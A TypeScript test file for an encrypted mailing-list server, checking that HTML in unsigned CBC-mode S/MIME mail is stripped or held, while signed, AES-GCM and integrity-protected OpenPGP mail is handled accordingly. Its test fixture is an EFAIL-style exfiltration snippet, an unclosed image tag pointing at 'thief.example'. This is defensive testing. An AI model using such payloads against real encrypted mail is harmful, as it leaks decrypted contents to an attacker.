/** S13 on the whole server: what came in EnvelopedData without a signature could be changed by anybody. */
import assert from "node:assert/strict";
import { test, type TestContext } from "node:test";
import { type Bytes, utf8, view } from "#base";
import { acceptAnyway } from "../support/crypto/accepted-anyway.ts";
import {
  correspondent,
  entity,
  mixed,
  openFor,
  sealed,
  sealedCms,
  signed,
} from "../support/programs/correspondents.ts";
import { newServer } from "../support/server.ts";
import {
  heldCodes,
  join,
  letter,
  movableClock,
  OWNER,
  readNewest,
  sealedTeam,
  TEAM,
} from "../support/lists/sealed-team.ts";

const HTML = entity('<img src="https://thief.example/?', [["Content-Type", "text/html"]]);
const OPEN = { gpg_post_sign: "no", smime_post_sign: "no" } as const;

async function setUp(t: TestContext, settings = {}) {
  const server = await newServer(t, { clock: movableClock() });
  const team = await sealedTeam(server, settings);
  const post = async (content: Bytes, id = "1") =>
    server.post({ from: team.bob.address, to: TEAM, message: letter(team.bob, content, { id }) });
  return { server, team, post };
}

test("its text goes out marked, its HTML does not", async (t) => {
  const { server, team, post } = await setUp(t, OPEN);
  await post(sealedCms(team.smime, mixed(entity("plain words"), HTML), "cbc"));
  for (const reader of [team.alice, team.bob]) {
    const inside = textOf((await readNewest(server, reader, team))?.content);
    assert.match(inside, /plain words/);
    assert.doesNotMatch(inside, /thief\.example|text\/html/);
    assert.match(inside, /no protection against changes/);
  }
});

test("HTML alone is held, and even an owner cannot let it out", async (t) => {
  const { server, team, post } = await setUp(t, OPEN);
  await post(sealedCms(team.smime, HTML, "cbc"));
  assert.deepEqual(await heldCodes(server), ["held no-integrity"]);
  await acceptAnyway(server);
  assert.deepEqual(await heldCodes(server), ["held no-integrity"], "it still waits");
  const copies = server.sink.messages.filter((copy) => copy.from.startsWith("team-"));
  assert.equal(copies.length, 0);
});

test("mail to the owners: its text goes on, its HTML does not, and HTML alone is held", async (t) => {
  const { server, team } = await setUp(t);
  const olga = await correspondent("olga");
  await join(server, olga, { owner: true });
  const stranger = { address: "stranger@example.com" };
  const write = (content: Bytes, id: string) =>
    server.post({ from: stranger.address, to: OWNER, message: letter(stranger, content, { id, to: OWNER }) });
  await write(sealedCms(team.smime, mixed(entity("plain words"), HTML), "cbc"), "1");
  const inside = textOf((await readNewest(server, olga, team))?.content);
  assert.match(inside, /plain words/);
  assert.doesNotMatch(inside, /thief\.example|text\/html/);
  assert.deepEqual(await heldCodes(server), []);
  await write(sealedCms(team.smime, HTML, "cbc"), "2");
  assert.deepEqual(await heldCodes(server), ["held no-integrity"]);
  const copies = server.mailbox(olga.address);
  for (const { data } of copies) {
    const read = await openFor(data, [olga], [team.openpgp]);
    assert.ok(read.ok && !textOf(read.value.content).includes("thief.example"));
  }
});

test("with a member's signature inside, or under AES-GCM, HTML goes out as it is", async (t) => {
  const { server, team, post } = await setUp(t, OPEN);
  await post(sealedCms(team.smime, await signed(team.bob, HTML), "cbc"));
  assert.match(textOf((await readNewest(server, team.alice, team))?.content), /thief\.example/);
  await post(sealedCms(team.smime, HTML, "gcm"), "2");
  assert.equal(server.mailbox(team.alice.address).length, 2);
  assert.match(textOf((await readNewest(server, team.alice, team))?.content), /thief\.example/);
});

test("OpenPGP has its own protection against changes: one octet changed does not open", async (t) => {
  const { server, team, post } = await setUp(t, OPEN);
  const content = Buffer.from(await sealed(team.openpgp, entity("x".repeat(3000))));
  const at = content.length - 900;
  content[at] = content[at] === 0x41 ? 0x42 : 0x41;
  await post(content);
  assert.deepEqual(await heldCodes(server), ["refused cannot-open"]);
  assert.equal(server.sink.messages.length, 0);
});

function textOf(octets: Bytes | undefined): string {
  return view(octets ?? utf8(""))
    .toString("utf8")
    .replaceAll(/=\r\n/g, "");
}
